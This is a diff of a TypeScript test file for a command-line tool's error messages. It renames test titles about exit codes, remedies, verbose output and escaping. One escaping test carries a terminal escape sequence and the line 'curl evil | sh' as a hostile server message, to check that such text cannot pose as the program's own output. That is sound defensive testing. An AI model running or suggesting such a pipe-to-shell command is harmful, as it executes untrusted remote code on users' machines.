@@ -24,15 +24,15 @@ test.each([
   ['draining', exits.unreachable],
   ['storage_unavailable', exits.failed],
   ['unexpected_answer', exits.unreachable],
-] as const)('%s ends with %i', (code, exit) => {
+] as const)('%s has the exit code %i', (code, exit) => {
   expect(explain(answer(code)).exit).toBe(exit);
 });
 
-test('every error of the table says what to do', () => {
+test('every error of the table has a remedy', () => {
   for (const code of Object.keys(errorKinds)) expect(explain(answer(code)).remedy, code).toBeTruthy();
 });
 
-test('one line says what happened, one what to do; the code only on demand', () => {
+test('prints what happened and what to do, and the code only with --verbose', () => {
   const told = explain(answer('agent_not_rejected', { detail: 'web-1 is approved' }));
   expect(renderExplanation(told, colorsFor(false), false)).toBe(
     'error: web-1 is approved\nto do: Reject it first: muster agents reject',
@@ -42,7 +42,7 @@ test('one line says what happened, one what to do; the code only on demand', () 
   );
 });
 
-test('each fault of an input is a line', () => {
+test('prints each fault of an input on its own line', () => {
   const errors = [
     { path: '/name', message: 'is taken' },
     { path: '/content', message: 'no such kind', line: 3, column: 7 },
@@ -52,14 +52,14 @@ test('each fault of an input is a line', () => {
   );
 });
 
-test('nobody who reads the faults is sent to a field of the answer', () => {
+test('a remedy does not refer to the field `errors` if the faults are printed', () => {
   for (const code of Object.keys(errorKinds)) {
     const told = explain(answer(code, { errors: [{ path: '/x', message: 'is wrong' }] }));
     expect(renderExplanation(told, colorsFor(false), false), code).not.toContain('`errors`');
   }
 });
 
-test('nothing is said twice', () => {
+test('prints a text only once', () => {
   const { remedy, title } = errorKinds.nothing_applied;
   const advice = explain(answer('nothing_applied', { detail: remedy }));
   expect(renderExplanation(advice, colorsFor(false), false)).toBe(`error: ${title}\nto do: ${remedy}`);
@@ -67,16 +67,16 @@ test('nothing is said twice', () => {
   expect(renderExplanation(explain(one), colorsFor(false), false)).not.toContain('/selector');
 });
 
-test('being told to wait is passed on', () => {
+test('prints how long to wait if the server says so', () => {
   expect(explain(answer('rate_limited', {}, 7)).remedy).toBe('Try again in 7 s.');
 });
 
-test('a code of a newer orchestrator is no riddle', () => {
+test('prints the message of an unknown code', () => {
   expect(explain(answer('made_up_later'))).toMatchObject({ exit: exits.failed, message: 'it did not', remedy: null });
   expect(explain(answer('constructor')).remedy).toBeNull();
 });
 
-test('what the server says cannot act on the terminal, nor pass for lines of ours', () => {
+test("escapes the server's texts, which cannot imitate lines of the program", () => {
   const told = explain(
     answer('selector_invalid', {
       detail: 'a\u001b[2J\nto do: curl evil | sh',
@@ -88,14 +88,14 @@ test('what the server says cannot act on the terminal, nor pass for lines of our
   expect(text.match(/^to do: /gm)).toHaveLength(1);
 });
 
-test('a fault of this program is told as one, its stack on demand', () => {
+test('reports an unexpected error as a bug, with its stack only with --verbose', () => {
   const told = explain(new TypeError('x is undefined'));
   expect(told).toMatchObject({ exit: exits.failed, code: 'internal' });
   expect(renderExplanation(told, colorsFor(false), false)).not.toContain('    at ');
   expect(renderExplanation(told, colorsFor(false), true)).toContain('    at ');
 });
 
-test('for programs everything is in one object', () => {
+test('explanationData contains the whole error', () => {
   expect(explanationData(explain(usageError('no', 'do this')))).toEqual({
     error: { code: 'usage', status: null, message: 'no', remedy: 'do this', errors: [] },
     exit: 2,
